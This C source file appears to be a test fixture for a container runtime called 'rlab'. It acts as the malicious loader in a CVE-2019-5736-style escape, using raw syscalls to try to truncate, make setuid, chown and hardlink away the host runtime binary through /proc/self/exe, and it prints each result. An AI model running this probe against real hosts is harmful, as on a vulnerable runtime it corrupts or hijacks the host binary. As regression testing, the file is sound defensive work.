/* Stands in an image as the loader that rlab's own program was linked for. Where an image's program is /proc/self/exe, the
 * kernel runs this file of the image's as part of rlab's: rlab's file is then behind /proc/self/exe, and this is the
 * attacker's code (CVE-2019-5736). No C library: its start would look for rlab's thread-local memory, not this file's. */
#include <asm/unistd.h>

#define O_WRONLY 1
#define O_TRUNC 01000
#define AT_FDCWD (-100)

static long call(long number, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

static void tell(const char *name, long result)
{
    char text[64];
    int length = 0, digits = result < 0 ? -result : result;
    while (*name)
        text[length++] = *name++;
    text[length++] = ':';
    text[length++] = ' ';
    if (result < 0)
        text[length++] = '-';
    if (digits >= 100)
        text[length++] = '0' + digits / 100;
    if (digits >= 10)
        text[length++] = '0' + digits / 10 % 10;
    text[length++] = '0' + digits % 10;
    text[length++] = '\n';
    call(__NR_write, 1, (long)text, length, 0);
}

void _start(void)
{
    static const char own[] = "/proc/self/exe";
    char link[256];
    long length = call(__NR_readlink, (long)own, (long)link, sizeof link, 0);
    tell("link", length > 0 ? 0 : length);
    tell("open", call(__NR_openat, AT_FDCWD, (long)own, O_WRONLY | O_TRUNC, 0));
    tell("truncate", call(__NR_truncate, (long)own, 1, 0, 0));
    tell("chmod", call(__NR_chmod, (long)own, 06777, 0, 0));
    tell("chown", call(__NR_chown, (long)own, 1000, 1000, 0));
    tell("link away", call(__NR_linkat, AT_FDCWD, (long)own, AT_FDCWD, (long)"/kept") == 0 ? 0 : -18);
    call(__NR_exit_group, 0, 0, 0, 0);
    __builtin_unreachable();
}
